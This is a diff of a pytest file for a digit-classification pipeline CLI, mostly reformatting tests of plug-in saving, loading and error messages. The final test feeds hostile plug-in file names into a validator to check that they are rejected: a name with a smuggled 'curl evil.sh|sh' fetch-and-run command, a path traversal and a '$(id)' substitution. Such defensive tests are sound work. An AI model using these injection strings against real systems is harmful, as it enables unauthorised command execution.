@@ -226,16 +226,32 @@ def folder(tmp_path, monkeypatch, digits):
     ],
 )
 def test_a_pipeline_with_a_plug_in_is_saved_and_asked(file, arguments, folder, command):
-    said = command("fit", "--dataset", "digits", *arguments, "--plugin", file, "--save", "it.pipeline")
+    said = command(
+        "fit", "--dataset", "digits", *arguments, "--plugin", file, "--save", "it.pipeline"
+    )
     assert f"--plugin {folder / file}" in said.out
     with zipfile.ZipFile("it.pipeline") as archive:
         assert archive.read(f"plugins/{file}") == (folder / file).read_bytes()
-    (record,) = json.loads(command("predict", "it.pipeline", "zero.png", "--plugin", file, "--format", "json").out)
+    (record,) = json.loads(
+        command("predict", "it.pipeline", "zero.png", "--plugin", file, "--format", "json").out
+    )
     assert np.isclose(sum(record["probabilities"].values()), 1)
 
 
 def test_the_plug_in_is_asked_for_in_a_line_and_is_never_run_from_the_file(folder, command):
-    command("fit", "--dataset", "digits", "--extractor", "my_means", "--model", "knn", "--plugin", "mine.py", "--save", "it.pipeline")
+    command(
+        "fit",
+        "--dataset",
+        "digits",
+        "--extractor",
+        "my_means",
+        "--model",
+        "knn",
+        "--plugin",
+        "mine.py",
+        "--save",
+        "it.pipeline",
+    )
     said = command("predict", "it.pipeline", "zero.png", expect=2).err
     assert "it.pipeline needs its plug-in: add --plugin mine.py" in said
     assert len(said.strip().splitlines()) == 1
@@ -244,37 +260,72 @@ def test_the_plug_in_is_asked_for_in_a_line_and_is_never_run_from_the_file(folde
     assert "was trained with another version of mine.py" in said
     assert "it was run" not in said
     (folder / "copy.py").write_text(CLASSICAL)
-    assert "must be named mine.py" in command("predict", "it.pipeline", "zero.png", "--plugin", "copy.py", expect=2).err
-    assert "no plug-in file nowhere.py" in command("predict", "it.pipeline", "zero.png", "--plugin", "nowhere.py", expect=2).err
+    assert (
+        "must be named mine.py"
+        in command("predict", "it.pipeline", "zero.png", "--plugin", "copy.py", expect=2).err
+    )
+    assert (
+        "no plug-in file nowhere.py"
+        in command("predict", "it.pipeline", "zero.png", "--plugin", "nowhere.py", expect=2).err
+    )
 
 
 @pytest.mark.parametrize(
     ("file", "arguments", "words"),
     [
         ("nets.py", ["--model", "raw"], "Raw.net_ belongs to torch: "),
-        ("mine.py", ["--model", "forgetful", "--extractor", "pixels"], "cannot be saved: it holds <lambda> of the plug-in mine.py"),
+        (
+            "mine.py",
+            ["--model", "forgetful", "--extractor", "pixels"],
+            "cannot be saved: it holds <lambda> of the plug-in mine.py",
+        ),
         *(
             ("keepers.py", ["--model", model, "--extractor", "pixels"], words)
             for model, words in (
                 (
                     "in_class",
-                    "in a new process it does not predict (AttributeError: 'NoneType' object has no attribute 'predict_proba'); fit",
+                    "in a new process it does not predict (AttributeError: 'NoneType' object has "
+                    "no attribute 'predict_proba'); fit",
                 ),
                 (
                     "in_global",
-                    "in a new process it predicts otherwise; fit and learn must keep all that they learn in attributes of the object",
+                    "in a new process it predicts otherwise; fit and learn must keep all that they "
+                    "learn in attributes of the object",
                 ),
-                ("draws", "a file keeps no random generator: draw random numbers in fit or learn only"),
-                ("dated", "holds datetime.date, a type that is not trusted; a pipeline's file keeps numbers, text"),
+                (
+                    "draws",
+                    "a file keeps no random generator: draw random numbers in fit or learn only",
+                ),
+                (
+                    "dated",
+                    "holds datetime.date, a type that is not trusted; a pipeline's file keeps "
+                    "numbers, text",
+                ),
                 ("objects", "one of its arrays holds Python objects; a pipeline's file keeps"),
-                ("boosted", "GradientBoostingClassifier, a type that is not trusted; a pipeline's file keeps"),
+                (
+                    "boosted",
+                    "GradientBoostingClassifier, a type that is not trusted; a pipeline's file "
+                    "keeps",
+                ),
                 ("parallel", "its ExtraTreesClassifier has n_jobs=2; a pipeline's has n_jobs=None"),
             )
         ),
     ],
 )
-def test_what_cannot_be_saved_is_refused_in_a_line_before_the_training(file, arguments, words, folder, command):
-    said = command("fit", "--dataset", "digits", *arguments, "--plugin", file, "--save", "it.pipeline", expect=2).err
+def test_what_cannot_be_saved_is_refused_in_a_line_before_the_training(
+    file, arguments, words, folder, command
+):
+    said = command(
+        "fit",
+        "--dataset",
+        "digits",
+        *arguments,
+        "--plugin",
+        file,
+        "--save",
+        "it.pipeline",
+        expect=2,
+    ).err
     assert words in said
     assert "the whole training was begun" not in said
     assert len(said.strip().splitlines()) == 1
@@ -282,7 +333,19 @@ def test_what_cannot_be_saved_is_refused_in_a_line_before_the_training(file, arg
 
 
 def test_plain_attributes_come_back_as_they_were(folder, command):
-    command("fit", "--dataset", "digits", "--extractor", "pixels", "--model", "plain", "--plugin", "keepers.py", "--save", "it.pipeline")
+    command(
+        "fit",
+        "--dataset",
+        "digits",
+        "--extractor",
+        "pixels",
+        "--model",
+        "plain",
+        "--plugin",
+        "keepers.py",
+        "--save",
+        "it.pipeline",
+    )
 
 
 @pytest.mark.parametrize("k", range(17))
@@ -291,10 +354,14 @@ def test_estimators_of_scikit_learn_inside_a_plug_in_come_back(k, folder, digits
     cell = make_cell(digits, split="holdout")
     pipeline = fit(replace(cell, values={**cell.values, "model": target}), digits)
     again = file.loads(file.dumps(pipeline), "it.pipeline", [str(folder / "keepers.py")])
-    np.testing.assert_allclose(again.predict_proba(digits.images), pipeline.predict_proba(digits.images), atol=1e-5)
+    np.testing.assert_allclose(
+        again.predict_proba(digits.images), pipeline.predict_proba(digits.images), atol=1e-5
+    )
 
 
-def test_what_is_made_of_parts_is_rehearsed_though_all_are_in_the_registry(digits, make_cell, monkeypatch):
+def test_what_is_made_of_parts_is_rehearsed_though_all_are_in_the_registry(
+    digits, make_cell, monkeypatch
+):
     names = []
     monkeypatch.setattr(saving, "read_back", lambda pipeline, *_: names.append(pipeline.card.model))
     for model in ("knn", "one_vs_rest(estimator=knn)"):
@@ -302,7 +369,9 @@ def test_what_is_made_of_parts_is_rehearsed_though_all_are_in_the_registry(digit
     assert names == ["one_vs_rest(estimator=knn)"]
 
 
-@pytest.mark.parametrize("name", ["x.py;curl evil.sh|sh", "../x.py", "a b.py", "x" * 60_000 + ".py", "$(id).py", "x.sh"])
+@pytest.mark.parametrize(
+    "name", ["x.py;curl evil.sh|sh", "../x.py", "a b.py", "x" * 60_000 + ".py", "$(id).py", "x.sh"]
+)
 def test_a_strangers_name_of_a_plug_in_is_in_no_command_to_be_copied(name):
     with pytest.raises(UserError, match=r"is no name of a plug-in file") as caught:
         match_plugins({name: b"text"}, [], "it.pipeline")
